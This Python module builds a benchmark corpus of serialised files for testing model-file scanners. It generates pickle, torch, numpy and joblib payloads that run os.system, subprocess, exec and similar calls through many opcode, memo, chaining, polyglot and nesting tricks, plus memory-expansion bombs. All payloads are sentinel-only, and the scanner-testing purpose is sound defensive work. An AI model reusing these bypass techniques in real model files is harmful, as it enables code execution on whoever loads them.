"""Generators of malicious (and benign) serialised files for ``benchmarks/malicious.py``.

Every sample is built here, from the attack shapes that public scanner suites
test (picklescan's ``tests/data`` and ``data2``, modelscan's pickle tests,
fickling's bypass and expansion tests, ModelAudit's assets and bypass proofs of
concept): the same calls and opcode tricks, written anew, no third-party file
or code copied. Every payload is a sentinel: run by an ordinary unpickler it
creates a file under the sentinel folder, or connects to 127.0.0.1 port 9 (the
discard port), and nothing else.
"""

from __future__ import annotations

import base64
import gzip
import io
import marshal
import pickle
import struct
import zipfile
from collections import OrderedDict
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import numpy as np
import torch


@dataclass(frozen=True)
class Sample:
    """One file of the corpus: ``kind`` is ``malicious``, ``benign`` or ``expansion``."""

    name: str
    family: str  # whose test recipe it follows
    shape: str  # the attack or the benign case, in a few words
    filename: str  # its name as a side file
    data: bytes
    kind: str = "malicious"
    expect: str = ""  # for benign files: "pass", or why a strict refusal is expected
    side_expect: str = ""  # when it differs beside a model (scanned, not loaded)


# ---------------------------------------------------------------- opcode writing


def _value(value: object, protocol: int) -> bytes:
    """Opcodes that push a plain Python value (str, bytes, int, float, None, bool, list, tuple, dict)."""
    if value is None:
        return b"N"
    if isinstance(value, bool):
        return (b"\x88" if value else b"\x89") if protocol >= 2 else (b"I01\n" if value else b"I00\n")
    if isinstance(value, int):
        return b"I%d\n" % value if protocol == 0 else b"J" + struct.pack("<i", value)
    if isinstance(value, float):
        return b"F%r\n" % value if protocol == 0 else b"G" + struct.pack(">d", value)
    if isinstance(value, str):
        raw = value.encode("utf-8")
        if protocol == 0:
            return b"V" + value.encode("raw-unicode-escape") + b"\n"
        if protocol >= 4 and len(raw) < 256:
            return b"\x8c" + bytes([len(raw)]) + raw
        return b"X" + struct.pack("<I", len(raw)) + raw
    if isinstance(value, bytes):
        if protocol >= 3:
            if len(value) < 256:
                return b"C" + bytes([len(value)]) + value
            return b"B" + struct.pack("<I", len(value)) + value
        return _call_global("_codecs", "encode", (value.decode("latin-1"), "latin1"), protocol)
    if isinstance(value, list):
        return _list(value, protocol)
    if isinstance(value, tuple):
        return b"(" + b"".join(_value(v, protocol) for v in value) + b"t"
    if isinstance(value, dict):
        return b"(d" + b"".join(_value(k, protocol) + _value(v, protocol) + b"s" for k, v in value.items())
    raise TypeError(type(value))


def _list(values: list, protocol: int) -> bytes:
    if protocol == 0:
        return b"(l" + b"".join(_value(v, protocol) + b"a" for v in values)
    return b"](" + b"".join(_value(v, protocol) for v in values) + b"e"


def _global(module: str, name: str, protocol: int, spelling: str = "auto") -> bytes:
    """Push ``module.name``: GLOBAL, or STACK_GLOBAL from two strings (protocol 4+)."""
    if spelling == "stack" or (spelling == "auto" and protocol >= 4):
        return _value(module, max(protocol, 4)) + b"\x94" + _value(name, max(protocol, 4)) + b"\x94\x93"
    return b"c" + f"{module}\n{name}\n".encode()


def _call_global(module: str, name: str, args: tuple, protocol: int, spelling: str = "auto") -> bytes:
    return _global(module, name, protocol, spelling) + _value(tuple(args), protocol) + b"R"


def _framed(body: bytes, protocol: int) -> bytes:
    """A whole pickle: PROTO (protocol 2+), FRAME (4+), the body, STOP."""
    if protocol < 2:
        return body + b"."
    if protocol >= 4:
        return b"\x80" + bytes([protocol]) + b"\x95" + struct.pack("<Q", len(body) + 1) + body + b"."
    return b"\x80" + bytes([protocol]) + body + b"."


# ---------------------------------------------------------------- payloads


@dataclass(frozen=True)
class Call:
    """A direct call ``module.name(*args)`` whose only effect is the sentinel."""

    module: str
    name: str
    args: tuple
    source: str


def direct_calls(sentinel: Path, script: Path) -> list[Call]:
    """The callables the public suites exercise, each with sentinel-only arguments."""
    s = str(sentinel)
    touch = f"touch {s}"
    code = f"open({s!r}, 'w').close()"
    local = ("127.0.0.1", 9)
    return [
        Call("os", "system", (touch,), "picklescan/modelscan"),
        Call("posix", "system", (touch,), "picklescan"),
        Call("nt", "system", (touch,), "picklescan"),
        Call("os", "popen", (touch,), "modelscan"),
        Call("subprocess", "Popen", (["touch", s],), "picklescan"),
        Call("subprocess", "call", (["touch", s],), "modelscan"),
        Call("subprocess", "check_output", (["touch", s],), "modelscan"),
        Call("subprocess", "run", (["touch", s],), "modelscan"),
        Call("subprocess", "getoutput", (touch,), "picklescan"),
        Call("commands", "getoutput", (touch,), "picklescan (python 2 name)"),
        Call("builtins", "exec", (code,), "picklescan"),
        Call("builtins", "eval", (code,), "picklescan"),
        Call("__builtin__", "eval", (code,), "picklescan (python 2 name)"),
        Call("__builtin__", "execfile", (str(script),), "picklescan (python 2 name)"),
        Call("builtins", "open", (s, "w"), "modelaudit"),
        Call("io", "open", (s, "w"), "modelaudit"),
        Call("runpy", "run_path", (str(script),), "fickling bypass"),
        Call("runpy", "_run_code", (code, {}), "picklescan"),
        Call("cProfile", "run", (code,), "fickling bypass"),
        Call("profile", "run", (code,), "fickling bypass"),
        Call("timeit", "timeit", (code, "pass", None, 1), "picklescan"),
        Call("pty", "spawn", (["touch", s],), "fickling bypass"),
        Call("multiprocessing.util", "spawnv_passfds", (b"/usr/bin/touch", [b"touch", s.encode()], ()),
             "fickling bypass"),
        Call("shutil", "copyfile", (str(script), s), "modelaudit"),
        Call("pathlib", "Path.touch", (s,), "dotted name"),
        Call("socket", "create_connection", (local,), "picklescan"),
        Call("ssl", "get_server_certificate", (local,), "audit finding (ssl)"),
        Call("http.client", "HTTPConnection", ("127.0.0.1", 9), "picklescan"),
        Call("urllib.request", "urlopen", ("http://127.0.0.1:9/",), "picklescan"),
        Call("webbrowser", "open", (f"file://{s}",), "modelscan"),
        Call("pydoc", "pipepager", ("x", touch), "picklescan"),
        Call("numpy.testing._private.utils", "runstring", (code, {}), "picklescan"),
        Call("numpy", "load", (str(script) + ".pkl", None, True), "close to the allowlist"),
        Call("torch", "load", (str(script) + ".pkl",), "close to the allowlist"),
        Call("torch.serialization", "load", (str(script) + ".pkl",), "close to the allowlist"),
        Call("torch._inductor.codecache", "compile_file", ([], s, []), "picklescan"),
        Call("venv", "create", (s,), "picklescan"),
        Call("pip", "main", (["--version"],), "picklescan"),
        Call("bdb", "Bdb.run", (code,), "picklescan (dotted)"),
        Call("asyncio.unix_events", "_UnixSubprocessTransport", (), "picklescan"),
        Call("_pickle", "loads", (b"",), "picklescan"),
        Call("pickle", "loads", (b"",), "picklescan"),
        Call("dill", "loads", (b"",), "modelaudit"),
        Call("operator", "attrgetter", ("system",), "modelaudit"),
        Call("functools", "partial", (touch,), "picklescan"),
        Call("code", "InteractiveInterpreter", (), "fickling bypass"),
        Call("ctypes", "CDLL", (None,), "fickling bypass"),
        Call("marshal", "loads", (b"",), "fickling bypass"),
        Call("types", "FunctionType", (), "fickling bypass"),
        Call("importlib", "import_module", ("os",), "fickling bypass"),
        Call("builtins", "__import__", ("os",), "picklescan"),
        Call("builtins", "getattr", ((), "__class__"), "picklescan"),
        Call("builtins", "setattr", ((), "x", 1), "modelaudit"),
        Call("builtins", "compile", (code, "<x>", "exec"), "modelaudit"),
        Call("builtins", "len", ([1],), "benign-looking builtin"),
    ]


def _chain_samples(sentinel: Path) -> Iterator[tuple[str, str, bytes]]:
    """Calls reached through other calls: getattr chains, locate, attrgetter, marshal + FunctionType, ctypes."""
    s = str(sentinel)
    touch = f"touch {s}"
    code_text = f"open({s!r}, 'w').close()"
    for p in (2, 4):
        importer = _call_global("importlib", "import_module", ("os",), p)
        yield (f"getattr_import_module_p{p}", "fickling bypass",
               _framed(_global("builtins", "getattr", p) + b"(" + importer + _value("system", p) + b"tR"
                       + _value((touch,), p) + b"R", p))
        dunder = _call_global("builtins", "__import__", ("os",), p)
        yield (f"getattr_dunder_import_p{p}", "picklescan",
               _framed(_global("builtins", "getattr", p) + b"(" + dunder + _value("system", p) + b"tR"
                       + _value((touch,), p) + b"R", p))
        located = _call_global("pydoc", "locate", ("os.system",), p)
        yield f"pydoc_locate_p{p}", "fickling bypass", _framed(located + _value((touch,), p) + b"R", p)
        getter = _call_global("operator", "attrgetter", ("system",), p)
        yield (f"operator_attrgetter_p{p}", "modelaudit",
               _framed(getter + b"(" + _call_global("importlib", "import_module", ("os",), p) + b"tR"
                       + _value((touch,), p) + b"R", p))
        caller = _call_global("operator", "methodcaller", ("system", touch), p)
        yield (f"operator_methodcaller_p{p}", "modelaudit",
               _framed(caller + b"(" + _call_global("builtins", "__import__", ("os",), p) + b"tR", p))
        partial = _global("functools", "partial", p) + b"(" + _global("os", "system", p) + _value(touch, p) + b"tR"
        yield f"functools_partial_p{p}", "picklescan", _framed(partial + b")R", p)
        code = marshal.dumps(compile(code_text, "<payload>", "exec"))
        loaded = _call_global("marshal", "loads", (code,), max(p, 3))
        function = _global("types", "FunctionType", max(p, 3)) + b"(" + loaded + b"}tR"
        yield f"marshal_function_type_p{max(p, 3)}", "fickling bypass", _framed(function + b")R", max(p, 3))
        interpreter = _global("code", "InteractiveInterpreter", p) + b")R"
        run = _global("builtins", "getattr", p) + b"(" + interpreter + _value("runsource", p) + b"tR"
        yield f"code_interpreter_p{p}", "fickling bypass", _framed(run + _value((code_text,), p) + b"R", p)
        libc = _call_global("ctypes", "CDLL", (None,), p)
        system = _global("builtins", "getattr", p) + b"(" + libc + _value("system", p) + b"tR"
        yield (f"ctypes_cdll_p{p}", "fickling bypass",
               _framed(system + _value((touch.encode(),), max(p, 3)) + b"R", max(p, 3)))
        bdb = _global("bdb", "Bdb", p) + b")R"
        run = _global("builtins", "getattr", p) + b"(" + bdb + _value("run", p) + b"tR"
        yield f"bdb_run_p{p}", "picklescan", _framed(run + _value((code_text,), p) + b"R", p)


def _opcode_spellings(sentinel: Path) -> Iterator[tuple[str, str, bytes]]:
    """One call (os.system) in every opcode spelling and memo trick the suites use."""
    touch = f"touch {sentinel}"
    arg0 = _value(touch, 0)
    yield "inst_protocol0", "fickling bypass (INST)", b"(" + arg0 + b"ios\nsystem\n."
    yield "obj_protocol0", "fickling bypass (OBJ)", b"(cos\nsystem\n" + arg0 + b"o."
    yield ("obj_protocol1", "fickling bypass (OBJ)",
           b"(cos\nsystem\nX" + struct.pack("<I", len(touch)) + touch.encode() + b"o.")
    yield "string_opcode_protocol0", "picklescan", b"cos\nsystem\n(S" + repr(touch).encode() + b"\ntR."
    yield ("newobj", "modelaudit",
           _framed(_global("subprocess", "Popen", 2) + _value((["touch", str(sentinel)],), 2) + b"\x81", 2))
    yield ("newobj_ex", "modelaudit", _framed(_global("subprocess", "Popen", 4) + _value((["touch", str(sentinel)],), 4)
                                               + b"}\x92", 4))
    yield ("build_setstate", "modelaudit", _framed(_global("collections", "OrderedDict", 2) + b")R"
                                                   + _call_global("os", "system", (touch,), 2) + b"b", 2))
    yield ("memo_stack_global_binget", "modelaudit (memo)",
           b"\x80\x04" + _value("os", 4) + b"\x94" + _value("system", 4) + b"\x940" + b"h\x00h\x01\x93"
           + _value((touch,), 4) + b"R.")
    yield ("memo_overwrite", "modelaudit (memo)",
           b"\x80\x04" + _value("collections", 4) + b"q\x00" + _value("os", 4) + b"q\x00" + b"00"
           + b"h\x00" + _value("system", 4) + b"\x93" + _value((touch,), 4) + b"R.")
    yield ("memo_text_put_get", "picklescan (protocol 0 memo)",
           b"Vos\np0\n0Vsystem\np1\n0\x80\x04g0\ng1\n\x93" + _value((touch,), 4) + b"R.")
    yield ("dup_stack_global", "fickling", b"\x80\x04" + _value("os", 4) + b"2" + b"0" + _value("system", 4) + b"\x93"
           + _value((touch,), 4) + b"R.")
    yield ("decoy_pop_mark", "modelaudit (stack tricks)",
           b"\x80\x04" + _value("os", 4) + b"(" + _value("collections", 4) + _value("OrderedDict", 4) + b"1"
           + _value("system", 4) + b"\x93" + _value((touch,), 4) + b"R.")
    yield ("unknown_stack_global_operand", "fickling",
           b"\x80\x04" + _call_global("collections", "OrderedDict", (), 4) + _value("system", 4) + b"\x93"
           + _value((touch,), 4) + b"R.")
    for code, op in ((0x01, b"\x82\x01"), (0x1234, b"\x83" + struct.pack("<H", 0x1234)),
                     (0x12345678, b"\x84" + struct.pack("<I", 0x12345678))):
        yield f"copyreg_extension_{code:x}", "picklescan (EXT)", _framed(op + _value((touch,), 2) + b"R", 2)
    yield ("dotted_name_walk", "picklescan (dotted)",
           b"\x80\x04" + _value("torch.serialization", 4) + _value("os.system", 4) + b"\x93"
           + _value((touch,), 4) + b"R.")
    yield ("allowlisted_module_evil_name", "close to the allowlist",
           _framed(_call_global("torch._utils", "_rebuild_tensor_v2.__globals__", (), 4), 4))
    yield ("trailing_space_module", "name spelling", b"cos \nsystem\n(" + arg0 + b"tR.")
    yield ("newline_in_stack_global", "name spelling",
           b"\x80\x04" + _value("os\nx", 4) + _value("system", 4) + b"\x93" + _value((touch,), 4) + b"R.")
    yield ("unicode_module_name", "name spelling",
           b"\x80\x04" + _value("o\u0455", 4) + _value("system", 4) + b"\x93" + _value((touch,), 4) + b"R.")
    yield ("second_pickle_after_clean_one", "modelaudit (multiple pickles)",
           pickle.dumps({"weights": [1.0]}, protocol=2) + _framed(_call_global("os", "system", (touch,), 2), 2))
    yield ("payload_then_garbage", "fickling (crashes)", b"cos\nsystem\n(" + arg0 + b"tR\xff\xfe")
    yield ("payload_before_bad_stop", "fickling (crashes)", _framed(_call_global("os", "system", (touch,), 2), 2)[:-1])
    inner = _framed(_call_global("os", "system", (touch,), 2), 2)
    yield ("nested_pickle_bytes", "modelaudit (nested)", pickle.dumps({"meta": {"v": 1}, "blob": inner}, protocol=4))
    yield ("nested_pickle_latin1_text", "modelaudit (nested)", pickle.dumps({"blob": inner}, protocol=2))
    yield ("nested_twice", "modelaudit (nested)",
           pickle.dumps({"stage1": pickle.dumps({"stage2": inner}, protocol=4)}, protocol=4))
    yield ("pickle_loads_nested_call", "picklescan", _framed(_call_global("pickle", "loads", (inner,), 3), 3))
    yield ("protocol5_bytearray_arg", "protocol 5", b"\x80\x05" + _global("os", "system", 5) + b"\x96"
           + struct.pack("<Q", len(touch)) + touch.encode() + b"\x85R.")
    yield ("future_protocol_6", "protocol header",
           b"\x80\x06" + _global("os", "system", 4) + _value((touch,), 4) + b"R.")


def malicious_pickles(sentinel: Path, script: Path) -> Iterator[tuple[str, str, str, bytes]]:
    """(name, family, shape, bare pickle) for every direct call at every protocol, the chains and spellings."""
    for call in direct_calls(sentinel, script):
        for protocol in range(6):
            body = _call_global(call.module, call.name, call.args, protocol)
            yield (f"{call.module}.{call.name}_p{protocol}", call.source, f"direct call, protocol {protocol}",
                   _framed(body, protocol))
    for name, family, data in _chain_samples(sentinel):
        yield name, family, "call chain", data
    for name, family, data in _opcode_spellings(sentinel):
        yield name, family, "opcode spelling", data


# ---------------------------------------------------------------- containers


def tiny_state_dict() -> OrderedDict:
    """A small state dict (what torch.save archives wrap)."""
    generator = torch.Generator().manual_seed(0)
    return OrderedDict(weight=torch.randn(4, 3, generator=generator), bias=torch.zeros(4))


def torch_bytes(obj: object, *, legacy: bool = False, protocol: int = 2) -> bytes:
    """``torch.save`` into memory."""
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy, pickle_protocol=protocol)
    return buffer.getvalue()


def rewrite_zip(data: bytes, replace: dict[str, bytes] | None = None, add: tuple = (), prefix: bytes = b"") -> bytes:
    """Copy a zip member by member, swapping some members and appending others."""
    import warnings

    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    out.write(prefix)
    with zipfile.ZipFile(out, "a" if prefix else "w", zipfile.ZIP_STORED) as target, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)
        for info in source.infolist():
            target.writestr(info.filename, (replace or {}).get(info.filename, source.read(info)))
        for name, blob in add:
            target.writestr(name, blob)
    return out.getvalue()


def _legacy_with(index: int, payload: bytes) -> bytes:
    import pickletools

    data = torch_bytes(tiny_state_dict(), legacy=True)
    stream, bounds = io.BytesIO(data), [0]
    for _ in range(5):
        for _ in pickletools.genops(stream):
            pass
        bounds.append(stream.tell())
    return data[: bounds[index]] + payload + data[bounds[index + 1] :]


def npy_with_pickle(pickled: bytes, version: tuple[int, int] = (1, 0)) -> bytes:
    """An ``.npy`` file whose header says object dtype and whose data is ``pickled``."""
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    length_format = "<H" if version == (1, 0) else "<I"
    prefix_len = 8 + struct.calcsize(length_format)
    header += b" " * (-(prefix_len + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes(version) + struct.pack(length_format, len(header)) + header + pickled


def npz(members: dict[str, bytes], compressed: bool = False) -> bytes:
    """A zip of ``.npy`` members, as ``np.savez`` writes (``compressed``: ``np.savez_compressed``)."""
    out = io.BytesIO()
    mode = zipfile.ZIP_DEFLATED if compressed else zipfile.ZIP_STORED
    with zipfile.ZipFile(out, "w", mode) as archive:
        for name, blob in members.items():
            archive.writestr(name, blob)
    return out.getvalue()


def npy(array: np.ndarray) -> bytes:
    """``np.save`` into memory."""
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return buffer.getvalue()


def container_samples(sentinel: Path) -> Iterator[Sample]:
    """The same payloads inside torch archives, legacy files, polyglots, .npy, .npz, zips and joblib files."""
    touch = f"touch {sentinel}"
    code = f"open({str(sentinel)!r}, 'w').close()"
    payload2 = _framed(_call_global("os", "system", (touch,), 2), 2)
    payload4 = _framed(_call_global("builtins", "exec", (code,), 4), 4)
    payload0 = _call_global("os", "system", (touch,), 0) + b"."
    archive = torch_bytes(tiny_state_dict())
    data_pkl = "archive/data.pkl"

    def sample(name: str, family: str, shape: str, filename: str, data: bytes) -> Sample:
        return Sample(name, family, shape, filename, data)

    for label, payload in (("p0", payload0), ("p2", payload2), ("p4", payload4)):
        yield sample(f"torch_zip_data_pkl_{label}", "picklescan/modelscan", "torch zip, data.pkl replaced",
                     "extra_weights.pt", rewrite_zip(archive, {data_pkl: payload}))
    yield sample("torch_zip_extra_pkl_member", "picklescan", "torch zip, a second .pkl member", "extra_weights.pt",
                 rewrite_zip(archive, add=(("archive/extra.pkl", payload2),)))
    yield sample("torch_zip_case_folded_data_pkl", "modelaudit", "torch zip, DATA.PKL beside data.pkl",
                 "extra_weights.pt", rewrite_zip(archive, add=(("archive/DATA.PKL", payload2),)))
    yield sample("torch_zip_duplicate_member", "modelaudit", "torch zip, data.pkl listed twice", "extra_weights.pt",
                 rewrite_zip(archive, add=((data_pkl, payload2),)))
    yield sample("torch_zip_dot_dot_member", "modelaudit", "zip member path ../", "extra_weights.pt",
                 rewrite_zip(archive, add=(("archive/../../x.pkl", payload2),)))
    yield sample("torch_zip_prepended_pickle", "picklescan", "pickle bytes before a torch zip",
                 "extra_weights.pt", payload2 + archive)
    for index in range(5):
        yield sample(f"legacy_pickle_{index + 1}_of_5", "picklescan", "legacy torch file, one pickle replaced",
                     "extra_weights.pth", _legacy_with(index, payload2))
    yield sample("polyglot_pickle_then_zip", "fickling (polyglot)", "pickle with a zip appended", "extra.bin",
                 payload2 + archive)
    yield sample("polyglot_safetensors_then_zip", "fickling (polyglot)", "safetensors with a zip appended",
                 "extra.safetensors", _safetensors_bytes() + rewrite_zip(archive, {data_pkl: payload2}))
    yield sample("pickle_named_safetensors", "modelaudit", "pickle under a .safetensors name",
                 "extra.safetensors", payload2)
    for p in (0, 2, 3, 4, 5):
        inner = _framed(_call_global("os", "system", (touch,), p), p) if p >= 2 else payload0
        yield sample(f"npy_object_array_p{p}", "picklescan (numpy)", "npy, object dtype, pickle payload",
                     "embeddings.npy", npy_with_pickle(inner))
    import ssl

    ssl_payload = npy(_object_array(_Call(ssl.get_server_certificate, (("127.0.0.1", 9),))))
    yield sample("npy_ssl_get_server_certificate", "audit finding", "np.save of an object array", "embeddings.npy",
                 ssl_payload)
    for version in ((2, 0), (3, 0)):
        yield sample(f"npy_v{version[0]}_header_object_array", "numpy format", "npy header version 2/3",
                     "embeddings.npy", npy_with_pickle(payload2, version))
    yield sample("npy_named_pickle", "picklescan (numpy)", "a pickle named .npy (np.load falls back to pickle)",
                 "embeddings.npy", payload2)
    yield sample("npy_structured_object_field", "numpy format", "structured dtype with an object field",
                 "table.npy", _structured_npy(payload2))
    yield sample("npz_object_member", "picklescan (numpy)", "npz, one member an object array", "stats.npz",
                 npz({"mean.npy": npy(np.zeros(3)), "hook.npy": npy_with_pickle(payload2)}))
    yield sample("npz_compressed_object_member", "picklescan (numpy)", "savez_compressed, object member",
                 "stats.npz", npz({"hook.npy": npy_with_pickle(payload4)}, compressed=True))
    yield sample("npz_member_not_npy_name", "numpy format", "npz member without .npy suffix", "stats.npz",
                 npz({"hook": npy_with_pickle(payload2)}))
    yield sample("npz_with_pickle_member", "modelaudit", "npz with a raw .pkl member", "stats.npz",
                 npz({"a.npy": npy(np.ones(2)), "extra.pkl": payload2}))
    yield sample("zip_with_pickle_member", "modelaudit (zip)", "plain zip holding a pickle", "bundle.zip",
                 npz({"model/weights.pkl": payload4, "README": b"weights"}))
    yield sample("zip_nested_in_zip", "modelaudit (zip)", "zip inside a zip", "bundle.zip",
                 npz({"inner.zip": npz({"evil.pkl": payload2})}))
    yield sample("skops_like_zip", "modelaudit", "skops-shaped zip with a pickle member", "model.skops",
                 npz({"schema.json": b"{}", "coef.npy": npy(np.ones(2)), "est.pkl": payload2}))
    yield from _joblib_samples(sentinel, payload2)
    yield sample("gzip_pickle", "modelaudit (compressed)", "gzip-compressed pickle", "optimizer.pkl.gz",
                 gzip.compress(payload2))


def _joblib_samples(sentinel: Path, payload: bytes) -> Iterator[Sample]:
    try:
        import joblib
    except ImportError:
        return
    import os

    hook = _Call(os.system, (f"touch {sentinel}",))
    for compress in (0, ("zlib", 3), ("gzip", 3), ("bz2", 3), ("xz", 3), ("lzma", 3)):
        buffer = io.BytesIO()
        joblib.dump({"coef": [1.0, 2.0], "hook": hook}, buffer, compress=compress)
        label = compress[0] if compress else "raw"
        yield Sample(f"joblib_{label}", "modelaudit (joblib)", f"joblib.dump, {label}", "classifier.joblib",
                     buffer.getvalue())
    buffer = io.BytesIO()
    joblib.dump({"coef": np.ones(3), "hook": hook}, buffer)
    yield Sample("joblib_array_then_payload", "modelaudit (joblib)", "joblib with a numpy array before the payload",
                 "classifier.joblib", buffer.getvalue())


def _structured_npy(pickled: bytes) -> bytes:
    header = b"{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + pickled


class _Call:
    """An object whose pickle is "call ``function(*args)``", as an attacker's would be."""

    def __init__(self, function: Callable, args: tuple):
        self.function, self.args = function, args

    def __reduce__(self):
        return self.function, self.args


def _object_array(*items) -> np.ndarray:
    array = np.empty(len(items), dtype=object)
    array[:] = list(items)
    return array


def _safetensors_bytes() -> bytes:
    from safetensors.torch import save

    return save({"a": torch.zeros(2)})


# ---------------------------------------------------------------- expansion and benign files


def expansion_samples() -> Iterator[Sample]:
    """Pickles that import nothing but fan out through the memo (billion-laughs shapes)."""
    layers = 40
    body = bytearray(b"\x80\x02]q\x00")  # EMPTY_LIST, BINPUT 0
    for i in range(1, layers):
        body += b"(h" + bytes([i - 1]) + b"h" + bytes([i - 1]) + b"lq" + bytes([i])  # [prev, prev]
    yield Sample("memo_fanout_list", "fickling (expansion)", "2^40 references through the memo", "cache.pkl",
                 bytes(body) + b".", kind="expansion")
    dicts = bytearray(b"\x80\x02}q\x00")
    for i in range(1, layers):
        dicts += b"}q" + bytes([i]) + b"(K\x00h" + bytes([i - 1]) + b"K\x01h" + bytes([i - 1]) + b"u"
    yield Sample("memo_fanout_dict", "fickling (expansion)", "nested dicts sharing one child", "cache.pkl",
                 bytes(dicts) + b".", kind="expansion")
    yield Sample("deep_nesting", "fickling (expansion)", "100,000 nested lists", "cache.pkl",
                 b"\x80\x02" + b"(" * 100_000 + b"]" + b"l" * 99_999 + b"." , kind="expansion")
    yield Sample("long_text_line", "fickling (crashes)", "a 50 MB protocol-0 line", "cache.pkl",
                 b"V" + b"a" * 50_000_000 + b"\n.", kind="expansion")
    yield Sample("base64_encoded_pickle", "modelaudit (nested)", "pickle text in base64: inert data", "meta.pkl",
                 pickle.dumps({"blob": base64.b64encode(b"\x80\x02cos\nsystem\n.").decode()}, protocol=4),
                 kind="expansion")


def benign_samples(state_dict: dict) -> Iterator[Sample]:
    """Files a real model directory may hold, which intake should accept (or refuse with a stated reason)."""
    from safetensors.torch import save

    for protocol in range(6):
        for legacy in (False, True):
            layout = "legacy" if legacy else "zip"
            expect = "pass" if protocol else "refused: torch.load itself cannot read protocol-0 storage ids"
            yield Sample(f"torch_save_{layout}_p{protocol}", "torch.save", f"state dict, {layout}, protocol {protocol}",
                         f"checkpoint_p{protocol}_{layout}.pt",
                         torch_bytes(state_dict, legacy=legacy, protocol=protocol),
                         kind="benign", expect=expect, side_expect="pass")
    for protocol in (2, 4, 5):
        wrapped = {"state_dict": state_dict, "epoch": 3, "curve": np.arange(4.0), "loss": np.float32(0.5)}
        yield Sample(f"checkpoint_with_numpy_p{protocol}", "torch.save",
                     f"wrapped state dict + numpy, protocol {protocol}",
                     f"training_p{protocol}.pt", torch_bytes(wrapped, protocol=protocol), kind="benign", expect="pass")
    yield Sample("safetensors", "safetensors", "safetensors state dict", "model.safetensors", save(state_dict),
                 kind="benign", expect="pass")
    yield Sample("safetensors_pickle_like_header", "safetensors", "header length 0x10280 (starts 0x80 0x02)",
                 "model.safetensors", _safetensors_with_header_length(state_dict, 0x10280), kind="benign",
                 expect="pass")
    yield Sample("npy_float32", "numpy", "numeric npy", "mean.npy", npy(np.arange(6, dtype=np.float32).reshape(2, 3)),
                 kind="benign", expect="pass")
    yield Sample("npy_fortran_int64_v2", "numpy", "fortran-order int64 npy", "idx.npy",
                 npy(np.asfortranarray(np.arange(6).reshape(2, 3))), kind="benign", expect="pass")
    yield Sample("npy_object_strings", "numpy", "object array of strings (scanned, accepted)", "labels.npy",
                 npy(_object_array("circle", "square", 3)), kind="benign", expect="pass")
    yield Sample("npz_numeric", "numpy", "np.savez", "stats.npz",
                 npz({"a.npy": npy(np.ones(3)), "b.npy": npy(np.arange(4))}), kind="benign", expect="pass")
    yield Sample("npz_compressed", "numpy", "np.savez_compressed", "stats.npz",
                 npz({"a.npy": npy(np.ones(3))}, compressed=True), kind="benign", expect="pass")
    yield Sample("pickle_plain_dict_p0", "pickle", "protocol-0 pickle of plain values", "meta.pkl",
                 pickle.dumps({"epoch": 3, "lr": [0.1, 0.01], "name": "run"}, protocol=0), kind="benign", expect="pass")
    try:
        import joblib

        buffer = io.BytesIO()
        joblib.dump({"classes": ["a", "b"], "threshold": 0.5}, buffer, compress=3)
        yield Sample("joblib_plain_compressed", "joblib", "joblib.dump of plain values, zlib", "meta.joblib",
                     buffer.getvalue(), kind="benign", expect="pass")
        buffer = io.BytesIO()
        joblib.dump({"coef": np.ones(3)}, buffer)
        yield Sample("joblib_with_array", "joblib", "joblib.dump of a numpy array", "coef.joblib", buffer.getvalue(),
                     kind="benign", expect="refused: joblib's NumpyArrayWrapper is outside the allowlist")
    except ImportError:
        pass
    yield Sample("pickle_builtins_len", "pickle", "pickle importing builtins.len", "extra.pkl",
                 _framed(_call_global("builtins", "len", ([1, 2],), 2), 2), kind="benign",
                 expect="refused: only tensor-rebuilding imports are allowed")
    yield Sample("pickle_main_class", "pickle", "a pickled __main__ class (whole model object)", "model_object.pt",
                 b"\x80\x02c__main__\nTinyNet\n)\x81}b.", kind="benign",
                 expect="refused: a pickled object, not a state dict")
    yield Sample("plain_zip", "zip", "zip of text files", "docs.zip", npz({"README.md": b"# model", "LICENSE": b"MIT"}),
                 kind="benign", expect="refused: a zip that is neither a torch archive nor an .npz")


def _safetensors_with_header_length(tensors: dict, length: int) -> bytes:
    from safetensors.torch import save

    def header_length(pad: int) -> int:
        return struct.unpack("<Q", save(tensors, metadata={"pad": "x" * pad})[:8])[0]

    base = length - header_length(0)
    for pad in range(max(0, base - 8), base + 8):
        data = save(tensors, metadata={"pad": "x" * pad})
        if struct.unpack("<Q", data[:8])[0] == length:
            return data
    raise ValueError(f"no padding gives a {length}-byte header")


def all_samples(sentinel: Path, script: Path, state_dict: dict) -> list[Sample]:
    """The whole corpus: project payloads are added by the runner; these are the regenerated ones."""
    samples = [Sample(name, family, shape, "extra.pkl", data)
               for name, family, shape, data in malicious_pickles(sentinel, script)]
    samples += list(container_samples(sentinel))
    samples += list(expansion_samples())
    samples += list(benign_samples(state_dict))
    names = [s.name for s in samples]
    duplicates = {n for n in names if names.count(n) > 1}
    if duplicates:
        raise ValueError(f"duplicate sample names: {sorted(duplicates)}")
    return samples


__all__ = ["Sample", "all_samples", "tiny_state_dict", "torch_bytes"]
